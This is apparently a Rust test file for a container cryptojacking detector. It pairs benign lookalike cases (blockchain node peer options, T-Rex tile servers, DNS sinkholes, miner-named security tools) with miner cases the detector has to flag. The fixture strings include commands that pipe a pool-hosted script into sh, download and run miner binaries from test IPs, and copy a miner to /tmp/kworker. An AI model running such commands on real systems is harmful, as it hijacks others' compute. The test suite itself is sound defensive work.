//! The false-positive classes of issue 9, as generated cases, each next to its miner twin
//! (the same host, name or address used the way a miner uses it):
//! - a blockchain full node's peer and priority-node options naming a host that is also a pool;
//! - a program whose name collides with a miner's in unrelated software;
//! - non-Monero addresses without miner context; a lone Monero address in env (at most medium);
//! - DNS sinkhole and blocklist configurations naming pool domains;
//! - security tooling about miners: detector/exporter images named after the miner, and rule,
//!   signature and document files named after it (a YARA scan, a ClamAV database).
//!
//! (The GPU-instance node signal on an approved GPU pod: tests/detect_gpu.rs.)
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

use crate::detect_common;

use cryptojack::detect::Severity;
use detect_common::*;

const POOL_HOSTS: &[&str] = &[
    "node.supportxmr.com",
    "pool.hashvault.pro",
    "xmr.2miners.com",
    "gulf.moneroocean.stream",
    "eth.2miners.com",
    "rvn.2miners.com",
];

#[test]
fn fp_blockchain_nodes_peer_options() {
    let mut cases = Vec::new();
    let nodes: Vec<(&str, &str, Vec<&str>)> = vec![
        (
            "ghcr.io/sethforprivacy/simple-monerod:v0.18.3.4",
            "monerod",
            vec![
                "--add-priority-node",
                "--add-exclusive-node",
                "--add-peer",
                "--seed-node",
            ],
        ),
        (
            "ghcr.io/sethforprivacy/simple-monerod:latest",
            "monero-wallet-rpc",
            vec!["--daemon-address", "--proxy"],
        ),
        (
            "ethereum/client-go:v1.14.0",
            "geth",
            vec!["--bootnodes", "--static-nodes"],
        ),
        (
            "erigontech/erigon:2.60",
            "erigon",
            vec!["--bootnodes", "--trusted-nodes"],
        ),
        (
            "ruimarinho/bitcoin-core:24",
            "bitcoind",
            vec!["-addnode", "-connect", "-seednode"],
        ),
        (
            "kaspanet/kaspad:v0.12",
            "kaspad",
            vec!["--addpeer", "--connect"],
        ),
    ];
    for (image, daemon, options) in &nodes {
        for opt in options {
            for host in POOL_HOSTS {
                for value in [
                    format!("{host}:18080"),
                    host.to_string(),
                    format!("enode://ab12@{host}:30303"),
                ] {
                    let inline = format!("{opt}={value}");
                    cases.push(Case::one(
                        format!("{daemon} {inline}"),
                        container(image, &[daemon], &[&inline, "--data-dir=/data"]),
                        Expect::Benign,
                    ));
                    cases.push(Case::one(
                        format!("{daemon} {opt} {value} (args only)"),
                        container(image, &[], &["--data-dir=/data", opt, &value]),
                        Expect::Benign,
                    ));
                }
            }
        }
        // node ports are not pool ports
        cases.push(Case::one(
            format!("{daemon} ports"),
            with_ports(
                container(image, &[daemon], &[]),
                &[18080, 18089, 30303, 8333],
            ),
            Expect::Benign,
        ));
    }
    // twins: the same hosts as a miner's pool, and a node that mines
    for host in POOL_HOSTS {
        cases.push(Case::one(
            format!("{host} as pool"),
            container("ubuntu", &["/opt/x", "-o", &format!("{host}:3333")], &[]),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("{host} miner in node image"),
            container(
                "ghcr.io/sethforprivacy/simple-monerod:latest",
                &["/usr/local/bin/xmrig", "-o", &format!("{host}:3333")],
                &[],
            ),
            Expect::Miner,
        ));
    }
    cases.push(Case::one(
        "monerod mining",
        container(
            "ghcr.io/sethforprivacy/simple-monerod:latest",
            &["monerod"],
            &[
                "--start-mining",
                XMR,
                "--mining-threads",
                "8",
                "--add-priority-node=node.supportxmr.com:18080",
            ],
        ),
        Expect::Miner,
    ));
    let counts = check(&cases);
    assert_class_size(&counts, 12, 250);
}

#[test]
fn fp_name_collisions_decided_by_image_and_context() {
    let mut cases = Vec::new();
    // the T-Rex vector tile server
    for image in [
        "sourcepole/t-rex:latest",
        "sourcepole/t-rex:0.14.3",
        "docker.io/sourcepole/t-rex",
        "registry.example.com/maps/t-rex:1.0",
        "maps/t-rex",
    ] {
        for argv in [
            vec!["t_rex", "serve", "--config", "/config.toml"],
            vec![
                "/usr/bin/t_rex",
                "serve",
                "--dbconn",
                "postgresql://gis@db/osm",
                "--bind",
                "0.0.0.0",
            ],
            vec!["t_rex", "genconfig", "--dbconn", "postgresql://gis@db/osm"],
            vec![
                "t_rex",
                "generate",
                "--config",
                "/config.toml",
                "--maxzoom",
                "12",
            ],
        ] {
            cases.push(Case::one(
                format!("{image} {argv:?}"),
                container(image, &argv, &[]),
                Expect::Benign,
            ));
        }
        cases.push(Case::one(
            format!("{image} args only"),
            container(
                image,
                &[],
                &["serve", "--openbrowser=false", "--qgs", "/data/map.qgs"],
            ),
            Expect::Benign,
        ));
        // twin: the T-Rex miner in the same image name
        cases.push(
            Case::one(
                format!("{image} miner twin"),
                container(
                    image,
                    &[
                        "t-rex",
                        "-a",
                        "kawpow",
                        "-o",
                        "stratum+tcp://rvn.2miners.com:6060",
                        "-u",
                        &format!("{RVN}.w"),
                    ],
                    &[],
                ),
                Expect::Miner,
            )
            .also(Expect::Rule("builtin/miner-binary/t-rex".into())),
        );
    }
    // Cisco TRex, a traffic generator
    for image in [
        "trexcisco/trex:v3.02",
        "trexcisco/trex",
        "registry.example.com/net/trex-core:3.0",
    ] {
        for argv in [
            vec!["./t-rex-64", "-i", "--cfg", "/etc/trex_cfg.yaml"],
            vec![
                "/var/trex/v3.02/t-rex-64",
                "--astf",
                "-f",
                "astf/http_simple.py",
                "-m",
                "1000",
            ],
            vec!["sh", "-c", "cd /var/trex/v3.02 && ./t-rex-64 -i --stl"],
        ] {
            cases.push(Case::one(
                format!("{image} {argv:?}"),
                container(image, &argv, &[]),
                Expect::Benign,
            ));
        }
    }
    // twins: the T-Rex miner under its own names
    for (image, argv) in [
        (
            "trexminer/t-rex:0.26.8",
            vec!["t-rex", "-c", "/config/config.json"],
        ),
        ("ubuntu:22.04", vec!["/opt/t-rex", "--help"]),
        (
            "nvidia/cuda:12.2.0-base-ubuntu22.04",
            vec!["./trex", "-a", "kawpow", "-o", "rvn.example.net:6060"],
        ),
    ] {
        cases.push(Case::one(
            format!("{image} {argv:?} miner"),
            container(image, &argv, &[]),
            Expect::Miner,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 8, 30);
}

#[test]
fn fp_non_monero_addresses_without_miner_context() {
    let mut cases = Vec::new();
    for (coin, addr) in [
        ("eth", ETH),
        ("rvn", RVN),
        ("btc", BTC),
        ("btc-legacy", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"),
    ] {
        // exporters and balance monitors
        for argv in [
            vec!["/bin/exporter".to_string(), "--address".into(), addr.into()],
            vec!["/bin/exporter".into(), format!("--address={addr}")],
            vec![
                "/bin/monitor".into(),
                "--watch".into(),
                addr.into(),
                "--interval".into(),
                "60s".into(),
            ],
            vec!["/bin/exporter".into(), "-u".into(), addr.into()],
            vec![
                "node".into(),
                "server.js".into(),
                "--wallet".into(),
                addr.into(),
            ],
        ] {
            let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{coin} {argv:?}"),
                container("ghcr.io/example/exporter:1", &refs, &[]),
                Expect::Benign,
            ));
        }
        for (name, value) in [
            ("ADDRESS", addr.to_string()),
            ("WALLET_ADDRESS", addr.to_string()),
            ("WATCH", format!("{addr},{addr}")),
            ("CONTRACT", addr.to_string()),
        ] {
            cases.push(Case::one(
                format!("{coin} env {name}"),
                with_env(
                    container("ghcr.io/example/exporter:1", &["/bin/exporter"], &[]),
                    &[(name, &value)],
                ),
                Expect::Benign,
            ));
        }
        // twins: the address as a pool login, or next to a pool
        cases.push(Case::one(
            format!("{coin} login"),
            container("ubuntu", &["/opt/x", "-u", &format!("{addr}.rig1")], &[]),
            Expect::Miner,
        ));
        cases.push(
            Case::one(
                format!("{coin} with pool"),
                container(
                    "ubuntu",
                    &[
                        "/opt/x",
                        "-o",
                        "stratum+tcp://mine.example.net:3333",
                        "-u",
                        addr,
                    ],
                    &[],
                ),
                Expect::Miner,
            )
            .also(Expect::Rule(format!(
                "builtin/wallet/{}",
                match coin {
                    "eth" => "ethereum",
                    "rvn" => "ravencoin",
                    _ => "bitcoin",
                }
            ))),
        );
        cases.push(Case::one(
            format!("{coin} env with pool"),
            with_env(
                container("ubuntu", &["/opt/x"], &[]),
                &[("POOL", "mine.example.net:3333"), ("WALLET", addr)],
            ),
            Expect::Miner,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 12, 36);
}

#[test]
fn fp_lone_monero_address_in_env_is_at_most_medium() {
    let mut cases = Vec::new();
    for name in [
        "DONATION_ADDRESS",
        "PAYOUT",
        "XMR_ADDRESS",
        "TIP_JAR",
        "README_ADDR",
        "MONERO",
    ] {
        for value in [
            XMR.to_string(),
            format!("Donate XMR: {XMR}"),
            format!("xmr:{XMR}?amount=0.1"),
        ] {
            cases.push(
                Case::one(
                    format!("{name}={value}"),
                    with_env(
                        container("ghcr.io/example/site:1", &["/bin/site"], &[]),
                        &[(name, &value)],
                    ),
                    Expect::Exactly(Severity::Medium),
                )
                .also(Expect::Rule("builtin/wallet/monero".into())),
            );
            // twins: with any other signal the address counts fully
            cases.push(Case::one(
                format!("{name} + flag"),
                with_env(
                    container(
                        "ghcr.io/example/site:1",
                        &["/bin/site", "--donate-level", "1"],
                        &[],
                    ),
                    &[(name, &value)],
                ),
                Expect::Miner,
            ));
            cases.push(Case::one(
                format!("{name} + pool env"),
                with_env(
                    container("ghcr.io/example/site:1", &["/bin/site"], &[]),
                    &[
                        (name, &value),
                        ("POOL_URL", "stratum+tcp://mine.example.net:3333"),
                    ],
                ),
                Expect::Miner,
            ));
        }
    }
    // in a command line the address is a miner's argument
    cases.push(Case::one(
        "argv",
        container("ubuntu", &["/opt/x", XMR], &[]),
        Expect::Miner,
    ));
    let counts = check(&cases);
    assert_class_size(&counts, 18, 0);
}

#[test]
fn fp_dns_sinkholes_and_blocklists() {
    let domains = [
        "pool.supportxmr.com",
        "xmr.pool.minergate.com",
        "gulf.moneroocean.stream",
        "auto.c3pool.org",
        "x.a-dog.top",
    ];
    let mut cases = Vec::new();
    for d in domains {
        let scripts = [
            format!("echo '0.0.0.0 {d}' >> /etc/hosts"),
            format!("echo \"127.0.0.1 {d}\" >> /etc/hosts"),
            format!("printf '%s\\n' ':: {d}' >> /etc/hosts"),
            format!("echo 0.0.0.0 {d} >> /etc/hosts"),
            format!("cat >> /etc/hosts <<EOF\n0.0.0.0 {d}\n0.0.0.0 other.example\nEOF\n"),
            format!("echo 'address=/{d}/0.0.0.0' > /etc/dnsmasq.d/block.conf && dnsmasq -k"),
            format!("echo 'server=/{d}/' >> /etc/dnsmasq.conf"),
            format!(
                "printf 'local-zone: \"{d}\" always_nxdomain\\n' >> /etc/unbound/unbound.conf.d/block.conf"
            ),
            format!("echo '{d} CNAME .' >> /etc/bind/rpz.db"),
            format!("pihole -b {d}"),
            format!("pihole blacklist {d} --noreload"),
            format!("iptables -A OUTPUT -d {d} -j DROP"),
            format!("nft add rule inet filter output ip daddr {d} drop"),
        ];
        for s in scripts {
            cases.push(Case::one(
                s.clone(),
                container("alpine", &["sh", "-c", &s], &[]),
                Expect::Benign,
            ));
        }
        for argv in [
            vec![
                "dnsmasq".to_string(),
                "-k".into(),
                format!("--address=/{d}/0.0.0.0"),
            ],
            vec!["/usr/bin/blocky".into(), format!("--block-domain={d}")],
            vec!["/app/proxy".into(), "--deny".into(), d.into()],
            vec![
                "/app/proxy".into(),
                "--blocklist".into(),
                format!("{d},other.example"),
            ],
        ] {
            let refs: Vec<&str> = argv.iter().map(String::as_str).collect();
            cases.push(Case::one(
                format!("{argv:?}"),
                container("alpine", &refs, &[]),
                Expect::Benign,
            ));
        }
        for (name, value) in [
            ("BLOCKLIST", d.to_string()),
            ("BLOCKED_DOMAINS", format!("{d} other.example")),
            ("DENYLIST", format!("{d},x.example")),
            ("SINKHOLE_HOSTS", d.to_string()),
        ] {
            cases.push(Case::one(
                format!("{name}={value}"),
                with_env(
                    container("pihole/pihole:2024.07.0", &[], &[]),
                    &[(name, &value)],
                ),
                Expect::Benign,
            ));
        }
        // twins: the same domain as a connection target
        cases.push(Case::one(
            format!("{d} connect"),
            container("alpine", &["sh", "-c", &format!("./x -o {d}:3333")], &[]),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("{d} url"),
            container(
                "alpine",
                &["sh", "-c", &format!("curl -s https://{d}/a.sh | sh")],
                &[],
            ),
            Expect::Miner,
        ));
        cases.push(Case::one(
            format!("{d} env"),
            with_env(
                container("alpine", &["/app"], &[]),
                &[("POOL", &format!("{d}:443"))],
            ),
            Expect::Miner,
        ));
    }
    let counts = check(&cases);
    assert_class_size(&counts, 15, 100);
}

#[test]
fn fp_security_tooling_named_after_the_miner() {
    let mut cases = Vec::new();
    let tooling = [
        "detector", "exporter", "scanner", "monitor", "rules", "hunter", "blocker", "killer",
        "guard", "honeypot", "stats",
    ];
    for miner in [
        "xmrig",
        "t-rex",
        "lolminer",
        "nbminer",
        "cpuminer",
        "phoenixminer",
    ] {
        for word in tooling {
            for image in [
                format!("ghcr.io/acme-sec/{miner}-{word}:0.3.1"),
                format!("docker.io/secteam/{word}_{miner}:1.0"),
            ] {
                // the tool alone: a low note at most, never an incident
                cases.push(Case::one(
                    format!("{image} alone"),
                    container(&image, &["/app/run", "--interval", "60s"], &[]),
                    Expect::Exactly(Severity::Low),
                ));
                // twin: the same image doing the mining is the miner
                cases.push(
                    Case::one(
                        format!("{image} mining"),
                        container(
                            &image,
                            &[],
                            &[
                                "-o",
                                "pool.supportxmr.com:443",
                                "-u",
                                XMR,
                                "--donate-level",
                                "1",
                            ],
                        ),
                        Expect::Miner,
                    )
                    .also(Expect::Rule(format!("builtin/miner-image/{miner}"))),
                );
            }
        }
        // the tool run under its own name, in a command or a probe: low; twin: the same
        // program doing the mining
        for word in ["exporter", "detector", "scanner"] {
            let program = format!("/usr/local/bin/{miner}-{word}");
            let mut probe = container(
                "ghcr.io/acme-sec/tool:1.0",
                &[&program, "--listen", ":9189"],
                &[],
            );
            probe.execs = vec![cryptojack::detect::ExecView {
                handler: cryptojack::detect::Handler::LivenessProbe,
                command: strings(&[&format!("{miner}-{word}"), "--check"]),
            }];
            cases.push(Case::one(
                format!("{program} as the program"),
                probe,
                Expect::Exactly(Severity::Low),
            ));
            cases.push(Case::one(
                format!("{program} mining"),
                container(
                    "ghcr.io/acme-sec/tool:1.0",
                    &[
                        &program,
                        "-o",
                        "pool.supportxmr.com:443",
                        "--donate-level",
                        "1",
                    ],
                    &[],
                ),
                Expect::Miner,
            ));
        }
        // twin: the miner's own image is critical alone
        cases.push(Case::one(
            format!("{miner} image"),
            container(&format!("docker.io/someone/{miner}:latest"), &[], &[]),
            Expect::Exactly(Severity::Critical),
        ));
        // rule, signature and document files named after the miner are a scanner's input
        for (k, argv) in [
            vec![
                "yara",
                "-r",
                "-s",
                &format!("/rules/CoinMiner_Linux_{miner}.yar"),
                "/host/var/lib/containerd",
            ],
            vec!["yara", &format!("/opt/rules/{miner}.yara"), "/proc"],
            vec!["clamscan", "-d", &format!("/db/{miner}.ndb"), "-r", "/host"],
            vec![
                "sh",
                "-c",
                &format!("grep -rf /etc/hunt/{miner}.rules /host/proc/*/cmdline || true"),
            ],
            vec!["cat", &format!("/docs/{miner}-incident.md")],
            vec![
                "python3",
                "/app/report.py",
                "--iocs",
                &format!("/data/{miner}.csv"),
            ],
        ]
        .into_iter()
        .enumerate()
        {
            let argv: Vec<&str> = argv.iter().map(|s| s.as_ref()).collect();
            cases.push(Case::one(
                format!("{miner} rules#{k}: {argv:?}"),
                container("ghcr.io/acme-sec/hunt:1.0", &argv, &[]),
                Expect::Benign,
            ));
        }
        // twins: the miner's binary, archive or config in a path is the miner
        for argv in [
            vec![
                "sh",
                "-c",
                &format!("curl -sL http://10.0.0.9/{miner}.tar.gz | tar xz -C /tmp"),
            ],
            vec!["/bin/run", "--config", &format!("/etc/{miner}/config.json")],
            vec!["cp", &format!("/usr/bin/{miner}"), "/tmp/kworker"],
            // a download is whatever the server sends, whatever the name or fragment says
            vec![
                "sh",
                "-c",
                &format!("curl -o /tmp/k http://203.0.113.5/{miner}#.md; chmod +x /tmp/k; /tmp/k"),
            ],
            vec![
                "sh",
                "-c",
                &format!("wget -qO /tmp/k http://203.0.113.5/{miner}.txt && /tmp/k"),
            ],
            vec![
                "sh",
                "-c",
                &format!("curl -sLo /tmp/k 'http://203.0.113.5/dl/{miner}?f=.pdf' && /tmp/k"),
            ],
        ] {
            let argv: Vec<&str> = argv.iter().map(|s| s.as_ref()).collect();
            cases.push(Case::one(
                format!("{miner} path twin: {argv:?}"),
                container("alpine:3.20", &argv, &[]),
                Expect::Miner,
            ));
        }
    }
    let counts = check(&cases);
    assert_class_size(&counts, 250, 36);
}
